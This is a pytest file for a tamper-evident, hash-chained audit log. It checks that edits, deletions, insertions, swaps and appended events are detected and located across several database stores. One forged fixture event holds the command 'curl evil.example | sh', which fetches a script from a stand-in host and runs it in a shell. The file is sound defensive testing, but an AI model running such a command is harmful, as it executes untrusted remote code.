"""Invariant 5: the chain verifies, and any edit, deletion, insertion or reordering is found and located.

Every test runs against SQLite and against FerretDB (the MongoDB store), tampering with the raw rows
the way someone with database access could, then asserts the kind and the seq that verify reports.
"""

from __future__ import annotations

import sqlite3
import uuid
from pathlib import Path

import pytest

from corral.audit.log import AuditLog
from corral.audit.verify import verify_file
from corral.settings import Settings
from tests.audit.conftest import record_run
from tests.audit.tamper import forge, tamper_for

RUN = "run-tamper"
N = 20


@pytest.fixture
def audit(settings: Settings, store_url: str) -> AuditLog:
    log = AuditLog.open(settings, store_url, background=False, checkpoint_every=8)
    record_run(log, RUN, N)
    record_run(log, "run-other", 5)
    yield log  # type: ignore[misc]
    log.close()


def test_untouched_chain_verifies(audit: AuditLog) -> None:
    report = audit.verify(RUN, strict=True)
    assert report.ok, report.problems
    assert (report.events, report.head_seq) == (N, N)
    # interval checkpoints at 8 and 16, and the closing one at 20
    assert [c.seq for c in audit.checkpoints(RUN)] == [8, 16, 20]
    assert audit.verify("run-other").ok


def test_edited_field_is_located(audit: AuditLog, store_url: str) -> None:
    t = tamper_for(store_url)
    payload = t.payload(RUN, 9)
    payload["command"] = "echo innocent"  # seq 9 is a shell.command
    t.edit(RUN, 9, payload)
    t.close()
    report = audit.verify(RUN)
    assert not report.ok
    assert (report.first.kind, report.first.seq) == ("edited", 9)  # type: ignore[union-attr]
    assert "hash mismatch at seq 9" in report.summary()


def test_edit_with_recomputed_hash_breaks_the_next_link(audit: AuditLog, store_url: str) -> None:
    t = tamper_for(store_url)
    payload = t.payload(RUN, 9)
    t.edit(RUN, 9, forge(payload, prev_hash=payload["prev_hash"], seq=9, command="echo innocent"))
    t.close()
    report = audit.verify(RUN)
    assert (report.first.kind, report.first.seq) == ("reordered", 10)  # type: ignore[union-attr]
    assert "prev_hash mismatch at seq 10" in report.first.detail  # type: ignore[union-attr]


def test_deleted_event_is_located(audit: AuditLog, store_url: str) -> None:
    t = tamper_for(store_url)
    t.delete(RUN, 12)
    t.close()
    report = audit.verify(RUN)
    assert (report.first.kind, report.first.seq) == ("deleted", 12)  # type: ignore[union-attr]


def test_deleted_last_event_is_caught_by_the_closing_checkpoint(audit: AuditLog, store_url: str) -> None:
    t = tamper_for(store_url)
    t.delete(RUN, N)
    t.close()
    report = audit.verify(RUN)
    assert (report.first.kind, report.first.seq) == ("checkpoint", N)  # type: ignore[union-attr]


def test_swapped_events_are_located(audit: AuditLog, store_url: str) -> None:
    t = tamper_for(store_url)
    t.swap(RUN, 5, 6)
    t.close()
    report = audit.verify(RUN)
    assert (report.first.kind, report.first.seq) == ("reordered", 5)  # type: ignore[union-attr]
    assert "seq 6 comes before seq 5" in report.first.detail  # type: ignore[union-attr]


def test_inserted_event_is_located(audit: AuditLog, store_url: str) -> None:
    t = tamper_for(store_url)
    before = t.payload(RUN, 6)
    forged = forge(t.payload(RUN, 7), prev_hash=before["hash"], seq=7, command="curl evil.example | sh")
    t.insert_at(RUN, 7, forged)
    t.close()
    report = audit.verify(RUN)
    assert (report.first.kind, report.first.seq) == ("inserted", 7)  # type: ignore[union-attr]


def test_appended_event_is_an_unanchored_tail(audit: AuditLog, store_url: str) -> None:
    t = tamper_for(store_url)
    last = t.payload(RUN, N)
    t.append(forge(last, prev_hash=last["hash"], seq=N + 1, command="echo appended"))
    t.close()
    assert audit.verify(RUN).ok  # a live run legitimately has events after its last checkpoint...
    assert audit.verify(RUN).warnings
    strict = audit.verify(RUN, strict=True)  # ...a finished one does not
    assert (strict.first.kind, strict.first.seq) == ("unanchored", N + 1)  # type: ignore[union-attr]


def test_export_reverifies_offline_and_detects_file_tampering(audit: AuditLog, tmp_path: Path) -> None:
    path = tmp_path / "run.jsonl"
    path.write_text("\n".join(audit.export(RUN)) + "\n")
    [report] = verify_file(path, strict=True)
    assert report.ok and report.events == N

    lines = path.read_text().splitlines()
    swapped = [*lines[:3], lines[4], lines[3], *lines[5:]]
    path.write_text("\n".join(swapped) + "\n")
    [report] = verify_file(path)
    assert (report.first.kind, report.first.seq) == ("reordered", 4)  # type: ignore[union-attr]

    path.write_text("\n".join(lines[:10] + lines[11:]) + "\n")
    [report] = verify_file(path)
    assert (report.first.kind, report.first.seq) == ("deleted", 11)  # type: ignore[union-attr]

    path.write_text("\n".join([*lines[:5], lines[5].replace("step", "STEP"), *lines[6:]]) + "\n")
    [report] = verify_file(path)
    assert (report.first.kind, report.first.seq) == ("edited", 6)  # type: ignore[union-attr]


def test_sqlite_store_refuses_update_and_delete(settings: Settings) -> None:
    with AuditLog.open(settings, background=False) as log:
        record_run(log, RUN, 3)
    db = sqlite3.connect(settings.audit_db)
    with pytest.raises(sqlite3.IntegrityError, match="append-only"):
        db.execute("UPDATE events SET data='{}' WHERE seq=1")
    with pytest.raises(sqlite3.IntegrityError, match="append-only"):
        db.execute("DELETE FROM events")
    db.close()


def test_postgres_writer_role_may_insert_but_not_update_or_delete(
    settings: Settings, postgres_url: str
) -> None:
    import psycopg

    with AuditLog.open(settings, postgres_url, background=False) as log:
        record_run(log, RUN, 3)
    info = "postgresql://" + postgres_url.split("://", 1)[1]
    login = f"corral_test_writer_{uuid.uuid4().hex[:8]}"
    admin = psycopg.connect(info, autocommit=True)
    admin.execute(f"CREATE ROLE {login} LOGIN IN ROLE corral_audit_writer")
    try:
        writer_url = postgres_url.replace("postgres@", f"{login}@", 1)
        with AuditLog.open(settings, writer_url, background=False) as log:  # migrated already: no DDL
            record_run(log, "run-writer", 2)
            assert log.verify("run-writer", strict=True).ok
        writer = psycopg.connect("postgresql://" + writer_url.split("://", 1)[1], autocommit=True)
        for sql in ("UPDATE audit_events SET data='{}'", "DELETE FROM audit_events", "TRUNCATE audit_events"):
            with pytest.raises(psycopg.errors.InsufficientPrivilege):
                writer.execute(sql)
        writer.close()
        with pytest.raises(psycopg.errors.RaiseException, match="append-only"):
            admin.execute("DELETE FROM audit_events")  # even the owner meets the trigger
    finally:
        admin.execute(f"DROP OWNED BY {login}")
        admin.execute(f"DROP ROLE {login}")
        admin.close()
